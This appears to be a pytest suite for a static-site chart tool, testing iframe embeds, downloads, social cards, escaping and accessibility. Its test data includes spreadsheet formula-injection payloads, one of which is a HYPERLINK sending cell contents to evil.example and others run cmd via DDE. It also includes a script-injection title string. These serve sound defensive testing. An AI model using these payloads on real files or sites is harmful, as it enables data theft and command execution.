"""Embeds and downloads: the embed page in another site's iframe, embed.js, the files, the cards."""

from __future__ import annotations

import csv
import html
import importlib.util
import io
import json
import re
import shutil
import struct
from html.parser import HTMLParser
from pathlib import Path

import pytest
import vl_convert

from conftest import FIXTURES, run_build, serve_folder
from scrolly.charts import Chart
from scrolly.embed import data_rows, table_csv

WAIT = 15000  # ms, the longest any step may wait for the browser


# -- fixtures ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """The basic fixture built with base_url set to the local server that serves it, so
    the story's embed code points at it: (base URL, dist folder, project folder)."""
    root = tmp_path_factory.mktemp("embed") / "basic"
    shutil.copytree(FIXTURES / "basic", root, ignore=shutil.ignore_patterns(".scrolly-cache", "dist"))
    (root / "dist").mkdir()
    url, server = serve_folder(root / "dist")
    toml = root / "site.toml"
    toml.write_text(re.sub(r'(?m)^base_url = .*$', f'base_url = "{url}"', toml.read_text(encoding="utf-8")), encoding="utf-8")
    result = run_build("--site", str(root))
    assert result.returncode == 0, result.stderr
    yield url, root / "dist", root
    server.shutdown()


def story_snippets(dist: Path) -> dict[str, str]:
    """The embed code of each chart, as the story's "Embed & download" control shows it."""
    story = (dist / "index.html").read_text(encoding="utf-8")
    snippets = {}
    for code in re.findall(r'<textarea class="embed-code"[^>]*>(.*?)</textarea>', story, re.S):
        snippet = html.unescape(code)
        snippets[re.search(r'embed/([^/"]+)/', snippet).group(1)] = snippet
    return snippets


def host_page(folder: Path, snippets: list[str], name: str = "index.html") -> str:
    folder.mkdir(parents=True, exist_ok=True)
    body = "\n".join(f"<p>Host text before.</p>\n{snippet}" for snippet in snippets)
    (folder / name).write_text(
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title><link rel="icon" href="data:,">'
        f"</head><body>{body}<p>Host text after.</p></body></html>",
        encoding="utf-8",
    )
    return name


def console_log(page) -> list:
    messages = []
    page.on("console", lambda message: messages.append((message.type, message.text)))
    return messages


def frames_of(page) -> list:
    iframes = page.locator("iframe")
    iframes.first.wait_for(timeout=WAIT)
    return [iframes.nth(i).element_handle().content_frame() for i in range(iframes.count())]


def wait_live(frame) -> None:
    frame.wait_for_function("window.scrollyEmbed && window.scrollyEmbed.view !== null && document.querySelector('.chart-live svg') !== null", timeout=WAIT)


def wait_sized(frame) -> dict:
    """Wait until the iframe is exactly as tall as its content; returns the frame's measures."""
    frame.wait_for_function(
        "document.documentElement.classList.contains('is-sized-by-host')"
        " && Math.abs(innerHeight - document.body.getBoundingClientRect().height) <= 1",
        timeout=WAIT,
    )
    return frame.evaluate(
        """() => ({
            width: innerWidth, height: innerHeight,
            box: document.querySelector('.chart-box').getBoundingClientRect().toJSON(),
            footer: document.querySelector('.embed-footer').getBoundingClientRect().bottom,
        })"""
    )


def with_address(snippet: str, query: str) -> str:
    return re.sub(r'(src="[^"]*embed/[^/"]+/)"', rf'\1{query}"', snippet)


def chart_size(dist: Path, name: str) -> tuple[float, float]:
    svg = (dist / "charts" / f"{name}.svg").read_text(encoding="utf-8")
    match = re.search(r'<svg[^>]*\bwidth="([\d.]+)"[^>]*\bheight="([\d.]+)"', svg)
    return float(match.group(1)), float(match.group(2))


# -- the embed in another site -----------------------------------------------------------

def test_every_chart_embeds_live_in_another_site_and_its_iframe_follows_the_width(site, static_server, page, tmp_path):
    url, dist, _ = site
    snippets = story_snippets(dist)
    assert snippets.keys() == {path.name.removesuffix(".vl.json") for path in (dist / "charts").glob("*.vl.json")}
    host = static_server(tmp_path / "host")
    host_page(tmp_path / "host", list(snippets.values()))
    assert host.split(":")[-1] != url.split(":")[-1], "the host page must be another origin"
    log = console_log(page)
    page.set_viewport_size({"width": 1024, "height": 800})
    page.goto(host)

    wide = {}
    for name, frame in zip(snippets, frames_of(page)):
        wait_live(frame)
        wide[name] = wait_sized(frame)
        chart_w, chart_h = chart_size(dist, name)
        box = wide[name]["box"]
        assert box["height"] == pytest.approx(box["width"] * chart_h / chart_w, abs=1.5)
        assert box["bottom"] <= wide[name]["height"] and wide[name]["footer"] <= wide[name]["height"]

    page.set_viewport_size({"width": 320, "height": 800})
    for name, frame in zip(snippets, frames_of(page)):
        frame.wait_for_function("innerWidth <= 320", timeout=WAIT)
        narrow = wait_sized(frame)
        assert narrow["height"] != wide[name]["height"], "the iframe kept its height when the chart got narrower"
        assert narrow["box"]["width"] < wide[name]["box"]["width"]
        assert narrow["box"]["bottom"] <= narrow["height"] and narrow["footer"] <= narrow["height"]
        assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")

    errors = [text for kind, text in log if kind == "error"]
    assert not errors, errors


def test_a_state_chosen_in_the_address_is_shown(site, static_server, page, tmp_path):
    _, dist, _ = site
    snippet = story_snippets(dist)["dots"]
    host = static_server(tmp_path / "host")
    host_page(tmp_path / "host", [with_address(snippet, "?focus=%22c%22&zoom=2&day=%222024-02-01%22")])
    log = console_log(page)
    page.goto(host)
    frame = frames_of(page)[0]
    wait_live(frame)
    assert frame.evaluate("['focus', 'zoom', 'day'].map(name => window.scrollyEmbed.view.signal(name))") == ["c", 2, "2024-02-01"]
    highlighted = frame.evaluate("[...document.querySelectorAll('.chart-live path')].filter(p => p.getAttribute('fill') === '#9b2c1f').length")
    assert highlighted == 1
    assert not [text for kind, text in log if kind in ("warning", "error")]


@pytest.mark.parametrize(
    "query, why",
    [
        ("?focus=c", "cannot read focus=c"),
        ("?nope=%22c%22", "unknown param 'nope'"),
        ("?zoom=%22big%22", "param 'zoom' takes a number"),
        ("?day=%222024-13%22", "param 'day' takes a date"),
        ("?day=%222023-02-30%22", "got \"2023-02-30\", which is not a day of the calendar"),
        ("?focus=%22c%22&focus=%22b%22", "param 'focus' is set twice"),
        ("?focus=%5B1%5D", "param 'focus' takes \"text\""),
    ],
)
def test_a_bad_param_in_the_address_shows_the_default_state_and_warns(site, static_server, page, tmp_path, query, why):
    url, _, _ = site
    log = console_log(page)
    page.goto(f"{url}embed/dots/{query}")
    wait_live(page)
    assert page.evaluate("['focus', 'zoom', 'day'].map(name => window.scrollyEmbed.view.signal(name))") == [None, 1, "2024-01-01"]
    assert page.evaluate("[...document.querySelectorAll('.chart-live path')].filter(p => p.getAttribute('fill') === '#9b2c1f').length") == 0
    warnings = [text for kind, text in log if kind == "warning"]
    assert len(warnings) == 1 and why in warnings[0] and "default state" in warnings[0], warnings
    assert not [text for kind, text in log if kind == "error"]


def test_without_embed_js_the_iframe_still_shows_the_whole_chart(site, static_server, page, tmp_path):
    _, dist, _ = site
    iframe = story_snippets(dist)["dots"].split("<script")[0]
    default_height = int(re.search(r"height:(\d+)px", iframe).group(1))
    host = static_server(tmp_path / "host")
    host_page(tmp_path / "host", [iframe])
    for width in (1024, 320):
        page.set_viewport_size({"width": width, "height": 800})
        page.goto(host)
        frame = frames_of(page)[0]
        wait_live(frame)
        measures = frame.evaluate(
            """() => ({height: innerHeight, sized: document.documentElement.classList.contains('is-sized-by-host'),
                       box: document.querySelector('.chart-box').getBoundingClientRect().toJSON(),
                       live: document.querySelector('.chart-live svg').getBoundingClientRect().toJSON(),
                       footer: document.querySelector('.embed-footer').getBoundingClientRect().bottom})"""
        )
        assert measures["height"] == default_height and not measures["sized"]
        assert measures["box"]["height"] > 100
        assert measures["live"]["bottom"] <= measures["height"] and measures["footer"] <= measures["height"]


def test_the_first_paint_is_the_static_svg_in_the_box_the_live_view_takes(site, browser):
    url, dist, _ = site
    chart_w, chart_h = chart_size(dist, "dots")
    boxes = {}
    for javascript in (False, True):
        context = browser.new_context(viewport={"width": 280, "height": 700}, java_script_enabled=javascript, bypass_csp=True)
        try:
            page = context.new_page()
            page.goto(f"{url}embed/dots/")
            if javascript:
                wait_live(page)
                boxes[javascript] = page.locator(".chart-live").bounding_box()
                assert page.locator(".chart-static").is_hidden()
            else:
                assert page.locator(".chart-static").get_attribute("src") == "../../charts/dots.svg"
                boxes[javascript] = page.locator(".chart-box").bounding_box()
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "sideways scrolling at 280 px"
        finally:
            context.close()
    assert boxes[False] == boxes[True]
    assert boxes[False]["height"] == pytest.approx(boxes[False]["width"] * chart_h / chart_w, abs=1)


def test_embed_js_resizes_only_the_frame_that_asked(site, static_server, page, tmp_path):
    """A message from a window that is no iframe of the page changes nothing."""
    _, dist, _ = site
    host = static_server(tmp_path / "host")
    host_page(tmp_path / "host", [story_snippets(dist)["dots"]])
    page.goto(host)
    frame = frames_of(page)[0]
    wait_live(frame)
    before = wait_sized(frame)["height"]
    page.evaluate("window.postMessage({type: 'scrolly-embed:height', height: 50}, '*')")
    frame.evaluate("parent.postMessage({type: 'scrolly-embed:height', height: -5}, '*')")
    page.wait_for_timeout(200)
    assert page.evaluate("document.querySelector('iframe').getBoundingClientRect().height") == pytest.approx(before, abs=1)


# -- the control in the story -------------------------------------------------------------

def test_the_story_control_gives_the_embed_code_and_downloads(site, browser):
    url, _, _ = site
    context = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp=True)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url.rstrip("/"))
    try:
        page = context.new_page()
        page.goto(url)
        control = page.locator(".figure-block .embed-control")
        summary = control.locator("summary")
        summary.scroll_into_view_if_needed()
        summary.focus()
        page.keyboard.press("Enter")
        assert control.evaluate("el => el.open")
        copy = control.locator(".embed-copy")
        copy.click()
        page.wait_for_function("document.querySelector('.figure-block .embed-status').textContent !== ''", timeout=WAIT)
        assert page.evaluate("navigator.clipboard.readText()") == control.locator(".embed-code").input_value()
        assert control.locator(".embed-status").text_content() == "Copied."
        for label in ("PNG", "SVG", "CSV", "Vega-Lite"):
            href = control.get_by_role("link", name=re.compile(f"^{label}")).get_attribute("href")
            assert page.request.get(url + href).ok, href
        page.keyboard.press("Escape")
        assert not control.evaluate("el => el.open")
        assert page.evaluate("document.activeElement.tagName") == "SUMMARY"
    finally:
        context.close()


def test_the_story_control_works_without_javascript(site, browser):
    url, _, _ = site
    context = browser.new_context(viewport={"width": 375, "height": 700}, java_script_enabled=False)
    try:
        page = context.new_page()
        page.goto(url)
        control = page.locator(".figure-block .embed-control")
        control.locator("summary").scroll_into_view_if_needed()
        control.locator("summary").click()
        code = control.get_by_role("textbox", name=re.compile("^Embed code"))
        assert code.is_visible() and code.get_attribute("readonly") is not None
        assert f'src="{url}embed/dots/"' in code.input_value()
        assert f'src="{url}embed.js"' in code.input_value()
        assert control.locator(".embed-copy").evaluate("el => getComputedStyle(el).visibility") == "hidden"
        assert control.get_by_role("link", name=re.compile("^CSV")).is_visible()
    finally:
        context.close()


# -- files --------------------------------------------------------------------------------

def test_every_vega_lite_spec_renders_on_its_own(basic_site):
    specs = sorted((basic_site / "charts").glob("*.vl.json"))
    assert specs
    for path in specs:
        spec = json.loads(path.read_text(encoding="utf-8"))
        assert "url" not in json.dumps(spec.get("data", {})), f"{path.name}: data is not inlined"
        assert vl_convert.vegalite_to_svg(spec).startswith("<svg")


def test_every_png_is_twice_the_size_of_its_svg(basic_site):
    for path in sorted((basic_site / "charts").glob("*.vl.json")):
        name = path.name.removesuffix(".vl.json")
        png = (basic_site / "charts" / f"{name}.png").read_bytes()
        width, height = struct.unpack(">II", png[16:24])
        svg_w, svg_h = chart_size(basic_site, name)
        assert (width, height) == (round(2 * svg_w), round(2 * svg_h))


def test_every_csv_holds_the_charts_table(basic_site):
    charts = sorted(path.name.removesuffix(".vl.json") for path in (basic_site / "charts").glob("*.vl.json"))
    assert {path.stem for path in (basic_site / "charts").glob("*.csv")} == set(charts)
    for name in charts:
        module_path = FIXTURES / "basic" / "charts" / f"{name}.py"
        spec = importlib.util.spec_from_file_location(f"fixture_{name}", module_path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        expected = [{key: str(value) for key, value in row.items()} for row in module.table()]
        text = (basic_site / "charts" / f"{name}.csv").read_bytes().decode("utf-8")
        assert list(csv.DictReader(io.StringIO(text))) == expected


def test_csv_quotes_what_needs_quoting():
    rows = [
        {"name": 'Vilnius, "the capital"', "note": "two\nlines", "value": 1.5},
        {"name": "Žemaitija", "flag": True, "value": None},
    ]
    text = table_csv(rows)
    assert text == table_csv(rows), "not deterministic"
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "note", "value", "flag"],
        ['Vilnius, "the capital"', "two\nlines", "1.5", ""],
        ["Žemaitija", "", "", "true"],
    ]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
PLAIN = ["-1.5", "+3", "a=b", "plain"]  # numbers and text a spreadsheet shows as they are


def strings_in(node):
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from strings_in(value)
    elif isinstance(node, list):
        for value in node:
            yield from strings_in(value)


def test_csv_downloads_never_start_a_cell_with_a_formula_and_the_charts_keep_the_data(tmp_path):
    root = tmp_path / "basic"
    shutil.copytree(FIXTURES / "basic", root, ignore=shutil.ignore_patterns(".scrolly-cache", "dist"))
    ids = FORMULAS + PLAIN
    with (root / "charts" / "data" / "dots.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["id", "x", "y"], *[[text, 1 + i % 3, 1 + i % 2] for i, text in enumerate(ids)]])
    (root / "charts" / "inline.py").write_text(  # no table(): the CSV comes from the spec's inline data
        "import altair as alt\n"
        f"ROWS = [{{'@column': text, 'n': i}} for i, text in enumerate({ids!r})]\n"
        "def chart():\n"
        "    return alt.Chart(alt.Data(values=ROWS)).mark_point().encode(x='n:Q', tooltip='@column:N')"
        ".properties(title='Inline', description='Inline rows.')\n", encoding="utf-8")

    result = run_build("--site", str(root))
    assert result.returncode == 0, result.stderr

    dist = root / "dist"
    neutral = ["'" + text for text in FORMULAS] + PLAIN
    dots = list(csv.DictReader(io.StringIO((dist / "charts" / "dots.csv").read_text(encoding="utf-8"), newline="")))
    assert [row["id"] for row in dots] == neutral
    inline = list(csv.reader(io.StringIO((dist / "charts" / "inline.csv").read_text(encoding="utf-8"), newline="")))
    assert inline[0] == ["'@column", "n"] and [row[0] for row in inline[1:]] == neutral
    for name in ("dots", "inline"):  # what the charts draw is the data as given
        texts = set(strings_in(json.loads((dist / "charts" / f"{name}.vl.json").read_text(encoding="utf-8"))))
        assert set(ids) <= texts and not texts & set(neutral[: len(FORMULAS)])
    page = (dist / "index.html").read_text(encoding="utf-8")
    cells = [html.unescape(cell) for cell in re.findall(r"<td>(.*?)</td>", page, re.S)]
    assert ids[0] in cells and ids[3] in cells and not any(cell.startswith("'") for cell in cells)


def fake_chart(vega_lite: dict, table: list | None = None) -> Chart:
    return Chart(name="c", path=Path("c.py"), title="T", description="D", source="", params={}, vega_lite=vega_lite,
                 vega={}, width=10, height=10, png=b"", table=table, svg="<svg/>")


def test_csv_data_comes_from_table_else_from_the_specs_inline_data():
    records = [{"a": 1, "b": "x"}]
    assert data_rows(fake_chart({"data": {"values": records}}, table=[{"z": 0}])) == [{"z": 0}]
    assert data_rows(fake_chart({"data": {"values": records}})) == records
    assert data_rows(fake_chart({"data": {"name": "d1"}, "datasets": {"d1": records}})) == records
    assert data_rows(fake_chart({"data": {"url": "data.csv"}})) is None
    assert data_rows(fake_chart({"data": {"values": [{"a": {"nested": 1}}]}})) is None
    assert data_rows(fake_chart({"layer": [{"data": {"values": records}}]})) is None


# -- cards and escaping -------------------------------------------------------------------

class MetaTags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: dict[str, str] = {}

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        key = attrs.get("property") or attrs.get("name")
        if tag == "meta" and key and (key.startswith("og:") or key.startswith("twitter:")):
            self.tags[key] = attrs["content"]


def meta_tags(path: Path) -> dict[str, str]:
    parser = MetaTags()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser.tags


def test_story_and_embed_pages_have_social_cards_with_absolute_urls(basic_site):
    story = meta_tags(basic_site / "index.html")
    assert story["og:title"] == "A small test story" and story["og:url"] == "https://example.org/small/"
    assert story["og:image"] == story["twitter:image"] == "https://example.org/small/charts/dots.png"
    assert story["twitter:card"] == "summary_large_image"
    png = (basic_site / "charts" / "dots.png").read_bytes()
    assert (int(story["og:image:width"]), int(story["og:image:height"])) == struct.unpack(">II", png[16:24])
    embed = meta_tags(basic_site / "embed" / "dots" / "index.html")
    assert embed["og:title"] == "Three dots" and embed["og:url"] == "https://example.org/small/embed/dots/"
    assert embed["og:image"] == "https://example.org/small/charts/dots.png"


NASTY_TITLE = 'Dots "quoted" <b>bold</b> </script><script>window.hacked=1</script>'


@pytest.fixture(scope="module")
def nasty_site(tmp_path_factory):
    """The basic fixture without base_url, and a chart title that tries to break out of HTML."""
    root = tmp_path_factory.mktemp("nasty") / "basic"
    shutil.copytree(FIXTURES / "basic", root, ignore=shutil.ignore_patterns(".scrolly-cache", "dist"))
    toml = root / "site.toml"
    toml.write_text(re.sub(r"(?m)^base_url = .*\n", "", toml.read_text(encoding="utf-8")), encoding="utf-8")
    module = root / "charts" / "dots.py"
    module.write_text(module.read_text(encoding="utf-8").replace('title="Three dots"', f"title={NASTY_TITLE!r}"), encoding="utf-8")
    result = run_build("--site", str(root))
    assert result.returncode == 0, result.stderr
    return root / "dist"


def test_without_base_url_the_tags_needing_absolute_urls_are_left_out(nasty_site):
    for path in (nasty_site / "index.html", nasty_site / "embed" / "dots" / "index.html"):
        tags = meta_tags(path)
        assert tags["og:title"] and tags["twitter:card"] == "summary"
        assert not {"og:url", "og:image", "twitter:image"} & tags.keys(), path


def test_titles_are_escaped_everywhere_and_the_code_gets_absolute_addresses(nasty_site, static_server, page):
    url = static_server(nasty_site)
    page.goto(f"{url}embed/dots/")
    wait_live(page)
    assert page.locator("h1").text_content() == NASTY_TITLE
    assert page.title().startswith(NASTY_TITLE)
    assert page.evaluate("window.hacked === undefined && document.querySelectorAll('b').length === 0")
    page.goto(url)
    code = page.locator(".embed-code").first.input_value()
    assert f'src="{url}embed/dots/"' in code and f'src="{url}embed.js"' in code
    iframe_title = html.unescape(re.search(r'title="([^"]*)"', code).group(1))
    assert iframe_title == NASTY_TITLE
    assert page.evaluate("window.hacked === undefined && document.querySelectorAll('figcaption b').length === 0")


# -- accessibility ------------------------------------------------------------------------

def luminance(rgb: tuple[float, ...]) -> float:
    channels = [c / 255 for c in rgb[:3]]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(a: tuple[float, ...], b: tuple[float, ...]) -> float:
    light, dark = sorted((luminance(a), luminance(b)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


TEXT_COLOURS = """(root) => {
  const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
  const background = (el) => {
    for (; el; el = el.parentElement) {
      const c = rgb(getComputedStyle(el).backgroundColor);
      if (c.length < 4 || c[3] > 0) return c.slice(0, 3);
    }
    return [255, 255, 255];
  };
  return [...root.querySelectorAll('*')]
    .filter((el) => [...el.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim()) && el.checkVisibility())
    .map((el) => ({text: el.textContent.trim().slice(0, 40), color: rgb(getComputedStyle(el).color), background: background(el)}));
}"""


def assert_contrast(page, selector: str) -> int:
    checked = page.locator(selector).evaluate(TEXT_COLOURS)
    for item in checked:
        ratio = contrast(item["color"], item["background"])
        assert ratio >= 4.5, f"{item['text']!r}: contrast {ratio:.2f} < 4.5"
    return len(checked)


def test_the_embed_page_meets_the_accessibility_basics(site, page):
    url, _, _ = site
    page.goto(f"{url}embed/dots/")
    assert page.locator("html").get_attribute("lang") == "en"
    assert page.title().strip()
    assert page.get_by_role("main").count() == 1
    assert page.get_by_role("heading", level=1).text_content() == "Three dots"
    assert page.locator(".chart-static").get_attribute("alt") == "Three dots at (1, 2), (2, 3) and (3, 1)."
    wait_live(page)
    assert page.get_by_role("img", name="Three dots at (1, 2), (2, 3) and (3, 1).").count() == 1
    links = page.get_by_role("link")
    assert links.count() == 5
    for i in range(links.count()):
        name = links.nth(i).evaluate("a => (a.getAttribute('aria-label') || a.textContent).trim()")
        assert name and name.startswith(links.nth(i).text_content().strip())
    assert assert_contrast(page, "main") >= 6


def test_the_story_control_has_enough_contrast_when_open(site, page):
    url, _, _ = site
    page.goto(url)
    control = page.locator(".figure-block .embed-control")
    control.locator("summary").scroll_into_view_if_needed()
    control.locator("summary").click()
    assert control.get_by_role("button", name="Copy code").is_visible()
    assert assert_contrast(page, ".figure-block .embed-control") >= 4


def test_only_the_social_cards_chart_gets_a_png(project, tmp_path):
    """A 2x PNG is drawn only where the site uses one: the first chart's card, with base_url."""
    from scrolly.build import build_site

    root = project("basic")
    site = root / "site.toml"
    site.write_text(site.read_text(encoding="utf-8").replace('base_url = "https://example.org/small/"\n', ""), encoding="utf-8")
    build_site(root, tmp_path / "no-base-url")
    assert not (tmp_path / "no-base-url" / "charts" / "dots.png").exists()
    html = (tmp_path / "no-base-url" / "index.html").read_text(encoding="utf-8")
    assert 'charts/dots.svg" download' in html and "charts/dots.png" not in html
    assert "og:image" not in (tmp_path / "no-base-url" / "embed" / "dots" / "index.html").read_text(encoding="utf-8")
